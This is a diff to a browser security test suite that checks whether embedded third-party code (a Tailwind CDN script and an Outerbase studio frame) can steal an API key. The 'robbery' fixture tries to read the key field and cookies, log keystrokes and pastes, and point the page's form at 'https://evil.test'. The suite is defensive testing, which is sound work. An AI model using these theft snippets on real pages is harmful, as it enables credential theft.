@@ -1,8 +1,7 @@
-import type { Page } from "playwright-core"
 import { expect, it } from "vitest"
 import { axe } from "./browser.ts"
 import { companyGroup } from "./samples.ts"
-import { expectText, harness } from "./setup.ts"
+import { harness } from "./setup.ts"
 
 /** Foreign code that has turned against us: Tailwind's script on the key's page, and Outerbase's studio. */
 
@@ -33,7 +32,10 @@ function robbery(origin: string) {
   attempt("the page", () => parent.document)
   attempt("the page's address", () => parent.location.href)
   attempt("the page's field", () => parent.document.getElementById("api-key").value)
-  attempt("the page's form", () => (parent.document.getElementById("form").action = "https://evil.test/action"))
+  attempt(
+    "the page's form",
+    () => (parent.document.getElementById("form").action = "https://evil.test/action"),
+  )
   attempt("the page's code", () => outside?.eval("1"))
   attempt("the frame", () => here.frameElement)
   attempt("an opener", () => here.opener)
@@ -75,7 +77,10 @@ function robbery(origin: string) {
       if (tag === "form") attempt("a form", () => element.submit())
     }
   }
-  here.addEventListener("message", ({ data }: MessageEvent) => data !== null && got(`told: ${JSON.stringify(data)}`))
+  here.addEventListener(
+    "message",
+    ({ data }: MessageEvent) => data !== null && got(`told: ${JSON.stringify(data)}`),
+  )
   for (const type of ["keydown", "input", "paste"])
     here.addEventListener(type, ({ key }: KeyboardEvent) => got(`${type}: ${key}`), true)
   const field = document.createElement("input")
@@ -156,7 +161,9 @@ it("takes of what Tailwind's script answers the classes that it knows, and what 
     hosts: { "cdn.tailwindcss.com": { contentType: "text/javascript", body } },
   })
   const rules = () =>
-    page.evaluate(() => document.adoptedStyleSheets.flatMap((sheet) => [...sheet.cssRules].map((one) => one.cssText)))
+    page.evaluate(() =>
+      document.adoptedStyleSheets.flatMap((sheet) => [...sheet.cssRules].map((one) => one.cssText)),
+    )
   await expect.poll(rules).toEqual([".antialiased { -webkit-font-smoothing: antialiased; }"])
   expect(await page.isVisible("#submit")).toBe(true)
   expect(await page.locator("iframe").count()).toBe(0)
@@ -211,7 +218,10 @@ it("asks nothing of Outerbase before the click, and says what it will see", asyn
 it("answers the studio's frame alone, with words where there is no answer", async () => {
   server.onQuery = async (statement) =>
     statement === "busy"
-      ? { status: 429, body: { type: "error", error: { ref_id: "1", message: "<b>Later</b>", detail: null } } }
+      ? {
+          status: 429,
+          body: { type: "error", error: { ref_id: "1", message: "<b>Later</b>", detail: null } },
+        }
       : { status: 200, body: { error: "no such table: x" } }
   const { page, loot } = await robbed(studioOf("tgrp_studio_hears"), {
     "studio.outerbase.com": studioPage(`
@@ -250,7 +260,9 @@ it("keeps the window, the key and the clipboard from the studio, whatever that h
   )
   await page.click("#open")
   // Where it would lead its own frame in the end, the page's policy holds that.
-  await expect.poll(() => page.getAttribute("body", "data-held").then(String), { timeout: 5000 }).toMatch(/^frame-src https:\/\/evil\.test/)
+  await expect
+    .poll(() => page.getAttribute("body", "data-held").then(String), { timeout: 5000 })
+    .toMatch(/^frame-src https:\/\/evil\.test/)
   const own =
     /^(began|cookies: a=b|databases: .*|localStorage: \{\}|sessionStorage: \{\}|at https:\/\/evil\.test\/iframe\?key=(null)?)$/
   expect(loot.filter((what) => !own.test(what))).toEqual([])
